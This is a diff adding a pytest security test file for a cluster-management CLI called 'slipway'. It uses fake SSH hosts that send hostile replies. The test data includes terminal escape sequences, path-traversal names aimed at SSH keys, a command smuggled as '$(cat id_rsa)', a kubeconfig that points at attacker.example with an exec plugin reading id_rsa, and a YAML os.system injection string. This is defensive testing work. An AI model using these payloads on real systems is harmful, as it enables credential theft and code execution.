@@ -1,0 +1,387 @@
+"""Machines that lie: to every verb that talks to machines, in every way.
+
+``Home.slipway`` judges each command (exit code, crashes, terminal sequences, memory, canaries); a test adds what it alone expects.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import tarfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.hostile import images
+from tests.hostile.answers import STATE, cluster, facts, healthy, stored
+from tests.hostile.canary import SECRET, Home, Outcome, leading, lines, tells, told
+from tests.hostile.sshd import Answer, Sshd, drip, endless, hang, hangs_up, says
+
+# Everything that a terminal obeys: colours, a title, a clipboard, C1, carriage return, backspace, marks that turn the direction of text.
+SEQUENCES = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x9b31m\u009d\r\x08\x7f\u202egpj\u2066\u200f\x00\u2028"
+
+WORKER, MASTER = "127.0.0.2", "127.0.0.1"
+
+
+def login(machines: Sshd) -> tuple[str | Path, ...]:
+    return ("--port", str(machines.port), "--key", machines.key)
+
+
+def known(machines: Sshd) -> tuple[str | Path, ...]:
+    """Options that name a cluster by its master and its worker."""
+    return ("--masters", MASTER, "--nodes", WORKER, *login(machines))
+
+
+def remembered(home: Home, machines: Sshd) -> None:
+    """The cluster ``default``, as this machine remembers one that it has made."""
+    folder = home.state / "clusters/default"
+    folder.mkdir(parents=True)
+    entry = {"user": "root", "port": machines.port, "key": str(machines.key)}
+    found = {"name": "default", "image": "bad:latest", "digest": "sha256:" + "0" * 64}
+    found |= {"masters": [{"address": MASTER, "name": "m", **entry}], "nodes": [{"address": WORKER, "name": "w", **entry}]}  # type: ignore[dict-item]
+    (folder / "cluster.json").write_text(json.dumps(found))
+
+
+def loaded(home: Home, layout: images.Layout | None = None) -> None:
+    """Load an image, a good one without another."""
+    layout = layout or images.cloud_image([images.layer(images.BASIC)])
+    assert home.slipway("load", "-f", layout.archive(home.work / "image.tar")).code == 0
+
+
+def run(home: Home, machines: Sshd, *words: str) -> Outcome:
+    return home.slipway("run", "bad", "--masters", MASTER, *login(machines), "--timeout", "1", *words)
+
+
+# ---- every verb, every kind -------------------------------------------------------------------------------------------
+
+Verb = Callable[[Home, Sshd], Outcome]
+
+VERBS: dict[str, Verb] = {
+    "logs": lambda home, machines: home.slipway("logs", *known(machines), "-f", home.work / "logs.tar.gz"),
+    "exec": lambda home, machines: home.slipway("exec", *known(machines), "--", "uptime"),
+    "exec-role": lambda home, machines: home.slipway("exec", *known(machines), "--role", "edge", "--", "uptime"),
+    "status": lambda home, machines: home.slipway("status", *known(machines)),
+    "check-pre": lambda home, machines: home.slipway("check", "--pre", *known(machines)),
+    "check-post": lambda home, machines: home.slipway("check", "--post", *known(machines)),
+    "kubeconfig": lambda home, machines: home.slipway("kubeconfig", "--masters", MASTER, *login(machines)),
+    "generate": lambda home, machines: home.slipway("generate", "--from-cluster", "--masters", MASTER, *login(machines)),
+    "run": lambda home, machines: home.slipway("run", "bad", *known(machines), "--timeout", "1"),
+    "join": lambda home, machines: home.slipway("join", "--via", MASTER, "--nodes", WORKER, *login(machines), "--timeout", "1"),
+    "remove": lambda home, machines: home.slipway("remove", "--via", MASTER, "--nodes", WORKER, *login(machines), "--yes"),
+    "upgrade": lambda home, machines: home.slipway("upgrade", "bad", "--via", MASTER, *login(machines), "--yes", "--timeout", "1"),
+    "rollback": lambda home, machines: home.slipway("rollback", "--yes"),
+    "apply": lambda home, machines: home.slipway("apply", "bad", *known(machines), "--timeout", "1"),
+    "apps": lambda home, machines: home.slipway("apps"),
+    "backup": lambda home, machines: home.slipway("backup", "-f", home.work / "backup.tar"),
+    "certs": lambda home, machines: home.slipway("certs"),
+    "delete": lambda home, machines: home.slipway("delete", *known(machines), "--yes"),
+}
+
+LIES: dict[str, tuple[str, Answer]] = {
+    # Text of a command, and the answer to it; the empty text stands in all.
+    "nothing": ("", says()),
+    "terminal": ("", says(f"{SEQUENCES} {SEQUENCES}\n", errors=SEQUENCES)),
+    "terminal-failing": ("", says(f"{SEQUENCES} {SEQUENCES}\n", errors=SEQUENCES, code=1)),
+    "wrong-json": ("", says('{"items": [5, null, {"metadata": 3, "status": "x"}], "data": [], "spec": {"hosts": 7}}')),
+    "other-json": ("", says('{"items": {"a": 1e999}, "data": {"Clusterfile": "[", "digest": NaN}, "status": [], "metadata": {}}')),
+    "deep-json": ("", says('{"items":' + "[" * 100_000 + "]" * 100_000 + "}")),
+    "hang-up": ("kubectl", hangs_up),
+    "endless": ("", endless()),
+}
+PATIENT = ("exec", "exec-role")
+"""Verbs that hand on what a command prints for as long as it prints."""
+
+
+@pytest.mark.parametrize(("verb", "lie"), [(verb, lie) for verb in VERBS for lie in LIES if lie != "endless" or verb not in PATIENT])
+def test_no_answer_of_machines_harms(verb: str, lie: str, home: Home, machines: Sshd) -> None:
+    remembered(home, machines)
+    if verb in ("run", "upgrade", "apply"):
+        loaded(home)
+    part, answer = LIES[lie]
+    for machine in machines.machines.values():
+        machine.on(part, answer)
+        if part or lie == "endless":
+            # Else nothing would come after the first word.
+            machine.on("uname -n", says("node\n"))
+    VERBS[verb](home, machines)
+    assert not told(machines)
+
+
+# ---- paths ------------------------------------------------------------------------------------------------------------
+
+
+def bundle_names(home: Home) -> list[str]:
+    with tarfile.open(home.work / "logs.tar.gz") as tar:
+        return tar.getnames()
+
+
+def test_logs_writes_only_into_its_file_whatever_paths_a_machine_lists(home: Home, machines: Sshd) -> None:
+    targets = [home.home / ".ssh/authorized_keys", home.home / ".ssh/new", home.home / ".config/autostart/x.desktop"]
+    listed = [f"/var/log/pods/{leading(target)}" for target in targets]
+    listed += [str(target) for target in targets] + [f"/var/log/pods/a/{'../' * 5}{target}" for target in targets]
+    listed += ["/var/log/pods/kube-system_a/0.log", "/var/log/pods/\x00", "/var/log/pods/" + "x" * 5000, "/var/log/pods/"]
+    cluster(machines.first, stored())
+    machines.first.on("tail -c", says("ssh-ed25519 AAAA attacker\n"))
+    machines.first.on("/var/log/pods/kube-system_", says(lines(listed)))
+    assert home.slipway("logs", "--masters", MASTER, *login(machines), "-f", home.work / "logs.tar.gz").code == 0
+    assert all(not name.startswith("/") and ".." not in name.split("/") for name in bundle_names(home))
+
+
+@pytest.mark.parametrize("name", ["../../../x", "/etc", "..", "a/../../..", "x" * 4000, "a\x1b[31mb", "", "-rf", "a b", "a\nb"])
+def test_a_machine_has_no_name_that_leads_out_of_the_bundle(name: str, home: Home, machines: Sshd) -> None:
+    cluster(machines.first, stored())
+    machines.first.on("uname -n", says(f"{name}\n"))
+    assert home.slipway("logs", "--masters", MASTER, *login(machines), "-f", home.work / "logs.tar.gz").code == 0
+    assert all(re.fullmatch(r"index\.json|status\.json|(cluster|nodes)/[\w./-]+", entry) for entry in bundle_names(home)), bundle_names(
+        home
+    )
+
+
+def test_run_sends_no_file_that_a_machine_names(home: Home, machines: Sshd) -> None:
+    loaded(home)
+    healthy(machines.first)
+    key = home.home / ".ssh/id_rsa"
+    named = [str(key), f"/{key}", leading(key), f"etc/{leading(key)}", "etc/..", "../state/clusters/other/kubeconfig", "", ".", "\x00"]
+    machines.first.on(f"{STATE}/rendered", says(lines(named)))
+    run(home, machines)
+    assert machines.first.was_told(f"{STATE}/rendered")
+    assert not told(machines)
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd", "..", "/", "."])
+def test_run_does_not_fall_over_one_path_that_a_machine_names(name: str, home: Home, machines: Sshd) -> None:
+    loaded(home)
+    healthy(machines.first)
+    machines.first.on(f"{STATE}/rendered", says(f"{name}\n"))
+    run(home, machines)
+    assert machines.first.was_told(f"{STATE}/rendered")
+
+
+HOOK = """apiVersion: sealer.cloud/v2
+kind: Cluster
+metadata: {{name: default}}
+spec:
+  image: bad:latest
+  hosts: [{{ips: [127.0.0.1], roles: [master], ssh: {{port: {port}, pk: {key}}}}}]
+---
+apiVersion: sealer.io/v1
+kind: Plugin
+metadata: {{name: keep}}
+spec: {{type: ETCD, action: pre-init-host, on: "{target}"}}
+"""
+
+
+def test_join_does_not_write_where_the_stored_clusterfile_says(home: Home, machines: Sshd) -> None:
+    layout = images.cloud_image([images.layer(images.BASIC)])
+    loaded(home, layout)
+    text = HOOK.format(target=home.home / ".ssh/authorized_keys", port=machines.port, key=machines.key)
+    for machine in machines.machines.values():
+        healthy(machine)
+    record = stored(text, digest=layout.index[0]["digest"])
+    cluster(machines.first, record)
+    machines.first.on("etcdctl", says("ssh-ed25519 AAAA attacker\n"))
+    home.slipway("join", "--via", MASTER, "--nodes", WORKER, *login(machines), "--timeout", "1")
+    assert machines.first.was_told("slipway-clusterfile")
+
+
+def test_join_uses_no_key_that_the_stored_clusterfile_names(home: Home, machines: Sshd) -> None:
+    text = HOOK.split("---", maxsplit=1)[0].format(target="", port=machines.port, key=home.home / ".ssh/id_rsa")
+    cluster(machines.first, stored(text + f"env: ['A=$(cat {home.home}/.ssh/id_rsa)']\n"))
+    home.slipway("join", "--via", MASTER, "--nodes", WORKER, *login(machines), "--timeout", "1")
+    assert not told(machines)
+
+
+# ---- programs ---------------------------------------------------------------------------------------------------------
+
+
+def pem(kind: str) -> str:
+    body = base64.b64encode(b"not a real one, but no more than PEM is asked for" * 3).decode()
+    return base64.b64encode(f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----\n".encode()).decode()
+
+
+def evil_kubeconfig(home: Home) -> dict[str, object]:
+    """What kubectl would run, read and obey."""
+    run_here = {"command": "sh", "args": ["-c", f"cat {home.home}/.ssh/id_rsa"], "apiVersion": "client.authentication.k8s.io/v1"}
+    return {
+        "apiVersion": "v1",
+        "kind": "Config",
+        "current-context": "a",
+        "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
+        "clusters": [
+            {
+                "name": "a",
+                "cluster": {
+                    "server": "https://attacker.example:6443",
+                    "proxy-url": "http://attacker.example",
+                    "insecure-skip-tls-verify": True,
+                    "certificate-authority": f"{home.home}/.ssh/id_rsa",
+                    "certificate-authority-data": pem("CERTIFICATE"),
+                },
+            }
+        ],
+        "users": [
+            {
+                "name": "a",
+                "user": {
+                    "exec": {**run_here, "interactiveMode": "Never"},
+                    "auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}},
+                    "client-key": f"{home.home}/.ssh/id_rsa",
+                    "tokenFile": f"{home.home}/.ssh/id_rsa",
+                    "client-certificate-data": pem("CERTIFICATE"),
+                    "client-key-data": pem("RSA PRIVATE KEY"),
+                },
+            }
+        ],
+    }
+
+
+_OBEYED = (
+    "exec",
+    "auth-provider",
+    "proxy-url",
+    "insecure-skip-tls-verify",
+    "client-key:",
+    "tokenFile",
+    "certificate-authority:",
+    "attacker",
+)
+
+
+@pytest.mark.parametrize("how", ["printed", "file", "merged"])
+def test_a_kubeconfig_has_no_program_of_a_machine(how: str, home: Home, machines: Sshd) -> None:
+    cluster(machines.first, stored())
+    text = yaml.safe_dump(evil_kubeconfig(home))
+    machines.first.on("admin.conf", says(text))
+    machines.first.on("base64 <", says(base64.b64encode(text.encode())))
+    machines.first.on("/readyz", says("ok"))
+    target = home.work / "kubeconfig"
+    options: dict[str, tuple[str | Path, ...]] = {"printed": (), "file": ("-f", target), "merged": ("--merge",)}
+    outcome = home.slipway(
+        "kubeconfig", "--masters", MASTER, *login(machines), *options[how], env={"KUBECONFIG": str(target)} if how == "merged" else None
+    )
+    made = outcome.stdout + (target.read_text() if target.exists() else "")
+    assert not [word for word in _OBEYED if word in made], made
+    assert "client-key-data" in made or outcome.code != 0
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[]",
+        "users: 5\nclusters: []",
+        "clusters: [{name: a, cluster: {certificate-authority-data: '####'}}]\nusers: [{name: a, user: {}}]",
+        images.aliases(),
+        images.deep(),
+        "a: &a [*a]",
+        "\x00",
+        "!!python/object/apply:os.system [id]",
+    ],
+    ids=["list", "number", "no-base64", "aliases", "deep", "cycle", "binary", "object"],
+)
+def test_what_is_no_kubeconfig_is_refused(text: str, home: Home, machines: Sshd) -> None:
+    cluster(machines.first, stored())
+    machines.first.on("base64 <", says(base64.b64encode(text.encode())))
+    machines.first.on("/readyz", says("ok"))
+    assert home.slipway("kubeconfig", "--masters", MASTER, *login(machines)).code != 0
+
+
+# ---- lies about facts -------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "link eth0",
+        "route eth0 zzzz 0 0",
+        "route eth0 00000000 0100007F 01010101",
+        "route6 eth0 zz zz zz",
+        "route6 eth0 " + "f" * 40 + " 00 " + "f" * 40,
+        "port zz",
+        "port -1",
+        "owner zz 1 x",
+        "capabilities zz",
+        "time now",
+        "time inf",
+        "time nan",
+        "begun 1e999",
+        "resolv",
+        "address",
+        "hosts 1",
+        "cpus ²",
+        "memory " + "9" * 5000,
+        "place /var/lib 42 / ² 8 9 9 ext4",
+        "place a b c d e f g",
+        "os =",
+        "containers ² ²",
+        "limit ²",
+        "files ²",
+        "arch \x1b[31m",
+        "service",
+        f"host {SEQUENCES}",
+        "cluster ../../x y",
+    ],
+)
+def test_a_fact_that_is_none_is_no_crash(line: str, home: Home, machines: Sshd) -> None:
+    healthy(machines.first, more=line)
+    home.slipway("check", "--pre", "--masters", MASTER, *login(machines))
+    assert machines.first.was_told("MemTotal")
+
+
+@pytest.mark.parametrize("answer", ["reach 127.0.0.1 8² ok", "listening 8² 7²", "packet", "sync nan", "sync -1e999", "reach " * 100_000])
+def test_a_trial_that_is_none_is_no_crash(answer: str, home: Home, machines: Sshd) -> None:
+    for machine in machines.machines.values():
+        machine.on("", says(f"{answer}\n"))
+        healthy(machine)
+    home.slipway("check", "--pre", *known(machines))
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        stored("kind: Cluster\nspec: {hosts: 5}"),
+        stored("kind: Cluster\nspec: {hosts: [{ips: 7}]}"),
+        stored("[1, 2"),
+        stored(images.aliases()),
+        stored(images.merges()),
+        stored(images.deep()),
+        stored("a: &a [*a]"),
+        stored(image=SEQUENCES, digest=SEQUENCES),
+        {"data": None},
+        {"data": {"Clusterfile": 5}},
+        {},
+        [],
+    ],
+    ids=["hosts", "ips", "text", "aliases", "merges", "deep", "cycle", "terminal", "none", "number", "empty", "list"],
+)
+@pytest.mark.parametrize("verb", ["join", "status", "upgrade"])
+def test_a_record_that_is_none_is_refused(verb: str, record: object, home: Home, machines: Sshd) -> None:
+    remembered(home, machines)
+    if verb == "upgrade":
+        loaded(home)
+    for machine in machines.machines.values():
+        healthy(machine)
+    cluster(machines.first, json.dumps(record))
+    outcome = VERBS[verb](home, machines)
+    assert verb == "status" or outcome.code != 0
+
+
+# ---- hanging ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("way", ["silent", "dripping"])
+def test_a_machine_that_never_answers_is_given_up(way: str, home: Home, machines: Sshd) -> None:
+    cluster(machines.first, stored())
+    machines.first.on("base64 <", hang if way == "silent" else drip(b"A"))
+    assert home.slipway("kubeconfig", "--masters", MASTER, *login(machines)).code in (5, 6)
+
+
+def test_the_canary_is_found_in_what_a_machine_receives(home: Home, machines: Sshd) -> None:
+    """What all tests above rely on."""
+    outcome = home.slipway("exec", "--masters", MASTER, *login(machines), "--", f"echo {SECRET.decode()}")
+    assert outcome.code == 0
+    assert told(machines) == [MASTER]
+    assert tells(b"x" + base64.b64encode(b"ab" + SECRET + b"c"))
+    assert facts("a", MASTER).startswith("begun ")
